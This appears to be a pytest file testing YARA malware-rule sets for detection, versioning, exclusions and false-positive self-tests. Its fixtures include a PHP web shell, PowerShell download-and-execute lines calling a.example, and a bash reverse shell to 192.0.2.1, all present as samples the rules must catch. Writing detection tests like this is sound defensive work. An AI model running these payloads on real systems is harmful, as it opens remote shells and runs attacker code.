"""Rule sets: what is in them, their version, and the tests they have to pass."""

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.fakes import contents
from waybill.consignments.adapters.rule_sets import shipped
from waybill.consignments.domain.checks.errors import RuleSetInvalidError
from waybill.consignments.domain.checks.malware_rules import MalwareRules
from waybill.consignments.domain.checks.rule_set import RuleSet, RuleSource, build, parse_exclusions, sources_in
from waybill.consignments.domain.checks.self_test import harmless, prove

GOOD = 'rule good { strings: $a = "needle" condition: $a }'


def names(rules: RuleSet, content: bytes) -> list[str]:
    return MalwareRules(rules.compiled, rules.excluded).scan(content)


def test_the_rules_of_the_project_find_eicar_and_nothing_harmless() -> None:
    assert prove(shipped(), {}) == ["eicar"]


@pytest.mark.parametrize(
    ("content", "rule"),
    [
        (b"<?php @eval(base64_decode($_POST['x'])); ?>", "php_runs_what_a_request_says"),
        (b"<?PHP system ( $_GET[1] );", "php_runs_what_a_request_says"),
        (
            b"IEX (New-Object Net.WebClient).DownloadString('http://a.example/x.ps1')",
            "powershell_runs_a_download",
        ),
        (
            b"(New-Object System.Net.WebClient).DownloadString('http://a.example/x') | iex",
            "powershell_runs_a_download",
        ),
        (b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "shell_opens_a_connection_back"),
        # eicar.org: it may be followed by white space and CTRL-Z, while it is no longer than 128 characters.
        (contents.eicar() + b" \t\r\n\x1a" * 12, "eicar"),
        # [MS-CFB] 2.7: a stream of fewer than 4,096 bytes needs a mini stream; who writes none fills it up.
        (contents.eicar().ljust(4096, b"\0"), "eicar"),
    ],
)
def test_the_rules_of_the_project_find_what_they_are_for(content: bytes, rule: str) -> None:
    assert names(shipped(), content) == [rule]


@pytest.mark.parametrize(
    "content",
    [
        b"The article explains what eval() and $_POST are for.",
        b"<?php $name = $_POST['name']; system('date'); ?>",
        b"$client = New-Object Net.WebClient; $client.DownloadFile($url, 'file.zip')",
        b"see /dev/tcp in the manual of bash",
        b"a text that quotes " + contents.eicar(),
        contents.eicar() + b"x" * 100,
        contents.eicar().ljust(129),
        contents.eicar().ljust(4095, b"\0") + b"x",
        contents.eicar().ljust(70_000, b"\0"),
    ],
)
def test_the_rules_of_the_project_leave_the_rest_alone(content: bytes) -> None:
    assert names(shipped(), content) == []


def test_every_file_that_compiles_alone_is_in_and_the_others_are_named() -> None:
    sources = [
        RuleSource("b/good.yar", GOOD),
        RuleSource("broken.yar", "rule broken {"),
        RuleSource("includes.yar", 'include "b/good.yar"'),
        RuleSource("a/same_name.yara", 'rule good { strings: $a = "thread" condition: $a }'),
        RuleSource(
            "externals.yar", 'rule outside { condition: filename == "" and extension == "" and filetype == "" }'
        ),
        RuleSource("unknown.yar", "rule lost { condition: nobody_defines_this }"),
    ]
    rules, skipped = build(sources, {})
    assert rules.files == 3
    assert [left.name for left in skipped] == ["broken.yar", "includes.yar", "unknown.yar"]
    assert all(left.reason for left in skipped)
    assert names(rules, b"a thread") == ["good", "outside"]


def test_rules_of_files_before_do_not_help_a_file_to_compile() -> None:
    sources = [RuleSource("a.yar", GOOD), RuleSource("b.yar", "rule follows { condition: good }")]
    _, skipped = build(sources, {})
    assert [left.name for left in skipped] == ["b.yar"]


def test_excluded_rules_still_serve_other_rules_but_do_not_count() -> None:
    sources = [RuleSource("a.yar", f"{GOOD} rule follows {{ condition: good }}"), RuleSource("b.yar", GOOD)]
    rules, _ = build(sources, {"a.yar": ["good"]})
    assert names(rules, b"needle") == ["follows", "good"]
    rules, _ = build(sources[:1], {"a.yar": ["good"]})
    assert names(rules, b"needle") == ["follows"]


@given(
    st.permutations(
        [RuleSource("a.yar", GOOD), RuleSource("b.yar", GOOD.replace("good", "other")), RuleSource("c.yar", GOOD)]
    )
)
def test_the_version_is_of_the_rules_and_not_of_their_order(sources: list[RuleSource]) -> None:
    assert build(sources, {})[0].version == build(sorted(sources, key=lambda source: source.name), {})[0].version


def test_the_version_changes_with_the_rules_their_names_and_exclusions() -> None:
    sets = [
        build([RuleSource("a.yar", GOOD)], {}),
        build([RuleSource("a.yar", GOOD + " ")], {}),
        build([RuleSource("b.yar", GOOD)], {}),
        build([RuleSource("a.yar", GOOD)], {"a.yar": ["good"]}),
    ]
    assert len({rules.version for rules, _ in sets}) == len(sets)
    assert build([RuleSource("a.yar", GOOD), RuleSource("x.yar", "broken")], {})[0].version == sets[0][0].version


def test_nothing_that_compiles_is_an_error() -> None:
    with pytest.raises(RuleSetInvalidError, match="no file of rules that compiles"):
        build([RuleSource("a.yar", "broken")], {})


def test_an_exclusion_of_an_unknown_file_is_an_error() -> None:
    with pytest.raises(RuleSetInvalidError, match=r"c\.yar, which is not among the rules"):
        build([RuleSource("a.yar", GOOD), RuleSource("b.yar", "broken")], {"b.yar": ["x"], "c.yar": ["x"]})


def test_exclusions_are_read_from_json() -> None:
    assert parse_exclusions('{"a.yar": ["one", "two"]}') == {"a.yar": ["one", "two"]}


@pytest.mark.parametrize("text", ["", "[]", '{"a": "b"}', '{"a": [1]}', "{"])
def test_other_exclusions_are_refused(text: str) -> None:
    with pytest.raises(RuleSetInvalidError, match="exclusions"):
        parse_exclusions(text)


def test_a_set_without_a_rule_for_eicar_fails_its_test() -> None:
    with pytest.raises(RuleSetInvalidError, match="no rule finds the EICAR test file"):
        prove(build([RuleSource("a.yar", GOOD)], {})[0], {})


@pytest.mark.parametrize("name", sorted(harmless()))
def test_a_set_that_takes_a_harmless_file_for_malware_fails_its_test(name: str) -> None:
    content = harmless()[name]
    literal = " ".join(f"{byte:02X}" for byte in content[:400]) or "00"
    condition = f"$a at 0 and filesize == {len(content)}" if content else "filesize == 0 and not $a"
    strict = f"rule too_strict {{ strings: $a = {{ {literal} }} condition: {condition} }}"
    eicar = "rule by_size { condition: filesize == 68 }"
    with pytest.raises(RuleSetInvalidError, match=f"too_strict takes the harmless {name}"):
        prove(build([RuleSource("a.yar", strict), RuleSource("b.yar", eicar)], {})[0], {})


def test_more_harmless_files_can_be_given() -> None:
    rules, _ = build([RuleSource("a.yar", GOOD), RuleSource("b.yar", "rule by_size { condition: filesize == 68 }")], {})
    assert prove(rules, {"x.txt": b"hay"}) == ["by_size"]
    with pytest.raises(RuleSetInvalidError, match=r"good takes the harmless x\.txt"):
        prove(rules, {"x.txt": b"hay and a needle"})


def test_files_of_rules_are_found_below_a_folder(tmp_path: Path) -> None:
    for name, text in {"a.yar": GOOD, "b/c.YARA": GOOD, "readme.md": "text", "b/d.txt": GOOD}.items():
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(text)
    (tmp_path / "latin.yar").write_bytes(b"// caf\xe9")
    sources, skipped = sources_in(tmp_path)
    assert [source.name for source in sources] == ["a.yar", "b/c.YARA"]
    assert [(left.name, left.reason) for left in skipped] == [("latin.yar", "is not UTF-8 text")]


def test_a_set_survives_being_stored() -> None:
    rules = shipped()
    assert RuleSet.restore(json.loads(json.dumps(rules.manifest())), rules.compiled) == rules


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"format": 2}, "not one of format"),
        ({"yaraX": "0.1.0"}, "was compiled by YARA-X 0.1.0"),
        ({"sha256": "0" * 64}, "not what its manifest describes"),
        ({"excluded": None}, "incomplete"),
        ({"excluded": ["a"]}, "incomplete"),
        ({"files": "many"}, "incomplete"),
    ],
)
def test_a_set_that_does_not_fit_is_refused(change: dict[str, object], message: str) -> None:
    with pytest.raises(RuleSetInvalidError, match=message):
        RuleSet.restore({**shipped().manifest(), **change}, shipped().compiled)


def test_a_damaged_set_is_refused() -> None:
    with pytest.raises(RuleSetInvalidError, match="not what its manifest describes"):
        RuleSet.restore(shipped().manifest(), shipped().compiled[:-1])
